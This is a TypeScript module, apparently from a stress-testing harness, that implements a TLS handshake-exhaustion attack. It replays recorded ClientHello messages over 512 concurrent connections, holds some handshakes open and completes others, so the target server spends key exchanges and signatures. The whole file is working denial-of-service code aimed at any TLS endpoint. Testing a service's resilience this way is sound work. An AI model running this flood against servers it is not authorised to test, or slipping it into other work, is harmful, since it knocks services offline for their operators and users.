/** A client without an identity that lets the allocator begin TLS handshakes as fast as it can. */
import { once } from 'node:events';
import { connect as connectTcp, type Socket } from 'node:net';
import { duplexPair } from 'node:stream';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls, type SecureVersion } from 'node:tls';
import type { Attack } from '../target.ts';
import { repeat } from './repeat.ts';

const concurrent = 512;
/** The time for which an attacker waits for an answer, and holds a handshake that it never ends. */
const heldMs = 2_000;
const versions = ['TLSv1.2', 'TLSv1.3'] as const;

/**
 * Repeats the first message of one handshake, which costs an attacker nothing and the allocator a
 * key exchange and a signature. It closes half of the connections at the answer, and holds a
 * quarter. The rest are whole handshakes, of both versions of TLS.
 */
export const openHandshakes: Attack = async ({ endpoint }, signal, count) => {
  const [host = '', port = ''] = endpoint.split(':');
  const hellos = await Promise.all(versions.map(recordHello));
  await repeat({ concurrent, signal, count }, async (turn) => {
    const version = versions[turn % versions.length] ?? 'TLSv1.3';
    const kind = Math.floor(turn / versions.length) % 4;
    const socket = connectTcp(Number(port), host).on('error', () => undefined);
    const closed = once(socket, 'close');
    try {
      if (kind === 3) await Promise.race([shakeHands(socket, version), closed, sleep(heldMs)]);
      else {
        socket.write(hellos[turn % versions.length] ?? '');
        await Promise.race([once(socket, 'data'), closed, sleep(heldMs)]);
        if (kind === 2) await Promise.race([closed, sleep(heldMs)]);
      }
    } finally {
      socket.destroy();
    }
  });
};

/** Records the first message of a client. */
async function recordHello(version: SecureVersion): Promise<Buffer> {
  const [near, far] = duplexPair();
  const hello = once(far, 'data') as Promise<[Buffer]>;
  const client = connectTls({ socket: near, ...optionsOf(version) }).on('error', () => undefined);
  const [bytes] = await hello;
  client.destroy();
  return bytes;
}

async function shakeHands(socket: Socket, version: SecureVersion): Promise<void> {
  const client = connectTls({ socket, ...optionsOf(version) });
  await once(client, 'secureConnect').catch(() => undefined);
  client.destroy();
}

const optionsOf = (version: SecureVersion) => ({
  ALPNProtocols: ['h2'],
  rejectUnauthorized: false,
  minVersion: version,
  maxVersion: version,
});
